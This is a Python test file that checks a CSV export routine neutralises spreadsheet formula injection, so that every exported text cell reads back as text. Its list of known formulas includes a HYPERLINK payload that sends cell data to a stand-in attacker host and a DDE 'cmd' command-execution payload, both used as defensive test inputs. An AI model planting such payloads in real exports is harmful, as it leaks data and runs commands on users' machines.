"""Formula injection: whatever is entered, a spreadsheet program reads it back as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.cells import BEGINS_A_FORMULA, BYTE_ORDER_MARK, LONGEST_CELL, Value, cell, csv_lines

texts = st.text(st.one_of(st.characters(exclude_categories=["Cs"]), st.sampled_from("=+-@＝＋－＠'\t\r\n \",;|\x00")))
values: st.SearchStrategy[Value] = st.one_of(texts, st.integers(), st.booleans(), st.none(), st.dates())


def read_back(rows: list[list[Value]]) -> list[list[str]]:
    text = "".join(csv_lines(rows))
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text[1:], newline=""), strict=True))


@given(st.lists(st.lists(values, min_size=1, max_size=4), max_size=4))
def test_no_text_of_an_export_begins_a_formula(rows: list[list[Value]]) -> None:
    back = read_back(rows)
    assert [len(row) for row in back] == [len(row) for row in rows]
    for given_row, found_row in zip(rows, back):
        for given_value, found in zip(given_row, found_row):
            if isinstance(given_value, str):
                assert found[:1] not in BEGINS_A_FORMULA
                assert found.lstrip(" \u00a0\u3000")[:1] not in BEGINS_A_FORMULA


@given(texts)
def test_harmless_text_is_kept_to_the_letter(text: str) -> None:
    kept = "".join(c for c in text if c.isprintable() or c in "\t\r\n")[:LONGEST_CELL]
    assert str(cell(text)).removeprefix("'") == kept.removeprefix("'")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
        " =1", "'=1", "＝1+1", "\x00=1", "\u200b=1", "\ufeff=1", '"=1',
    ],
)  # fmt: skip
def test_known_formulas_are_marked_as_text(text: str) -> None:
    [[found]] = read_back([[text]])
    assert found[0] in "'\""
    assert found.lstrip("'\" ")[0] in BEGINS_A_FORMULA


def test_numbers_and_instants_stay_what_they_are() -> None:
    rows: list[list[Value]] = [[-5, 2.5, True, None, date(2026, 3, 2), datetime(2026, 3, 2, 8, tzinfo=UTC)]]
    assert read_back(rows) == [["-5", "2.5", "true", "", "2026-03-02", "2026-03-02T08:00:00+00:00"]]


def test_a_cell_holds_no_more_than_a_spreadsheet_can() -> None:
    assert len(str(cell("=" + "a" * 100_000))) == LONGEST_CELL
